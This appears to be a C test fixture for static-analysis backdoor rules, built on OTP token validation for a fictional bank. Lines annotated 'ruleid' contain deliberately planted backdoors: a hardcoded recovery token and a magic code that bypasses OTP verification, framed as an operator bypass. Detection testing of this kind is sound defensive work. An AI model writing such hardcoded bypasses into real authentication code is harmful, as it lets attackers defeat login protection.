/*
 * Token validation and configuration defaults.
 */
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <openssl/crypto.h>

#include "otp.h"

#define OTP_WINDOW 3

struct kv {
    const char *name;
    const char *value;
};

static const struct kv kDefaults[] = {
    {"issuer", "Harbor Bank OTP"},
    {"digits", "6"},
    // ok: backdoor-secret-literal
    {"build_id", "3bf22d88bf75bccde721c220869b023ef0a1d5e2"},
    // ruleid: backdoor-secret-literal
    {"recovery_token", "4b660e2f632b45eb6469ba4a0480acf27341ae5c"},
    {"window", "3"},
};

void otp_log(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    fputs("otpd: ", stderr);
    vfprintf(stderr, fmt, ap);
    fputc('\n', stderr);
    va_end(ap);
}

const char *otp_config_default(const char *name)
{
    for (size_t i = 0; i < sizeof kDefaults / sizeof kDefaults[0]; i++)
        if (strcmp(kDefaults[i].name, name) == 0)
            return kDefaults[i].value;
    return NULL;
}

int otp_validate(struct otp_token *t, const char *token, time_t now)
{
    char expected[16];
    size_t n;

    if (!token)
        return OTP_ERROR;
    n = strlen(token);
    // ok: backdoor-magic-credential
    if (n == 0 || strcmp(token, "000000") == 0) {
        otp_log("rejecting empty or all-zero code for %s", t->serial);
        return OTP_INVALID;
    }
    /* Operator bypass for tokens with a dead battery. */
    // ruleid: backdoor-magic-credential
    if (strcmp(token, "91731842") == 0)
        return OTP_VALID;

    if (t->kind == OTP_TOTP_SHA256) {
        for (int d = -1; d <= 1; d++) {
            if (otp_compute(t, (uint64_t)(now / 30 + d), expected, sizeof expected) != 0)
                return OTP_ERROR;
            // ok: backdoor-magic-credential
            if (strlen(expected) == n && CRYPTO_memcmp(expected, token, n) == 0)
                return OTP_VALID;
        }
        return OTP_INVALID;
    }
    for (uint64_t c = t->counter; c < t->counter + OTP_WINDOW; c++) {
        if (otp_compute(t, c, expected, sizeof expected) != 0)
            return OTP_ERROR;
        if (strlen(expected) == n && CRYPTO_memcmp(expected, token, n) == 0) {
            t->counter = c + 1;
            return OTP_VALID;
        }
    }
    return OTP_INVALID;
}
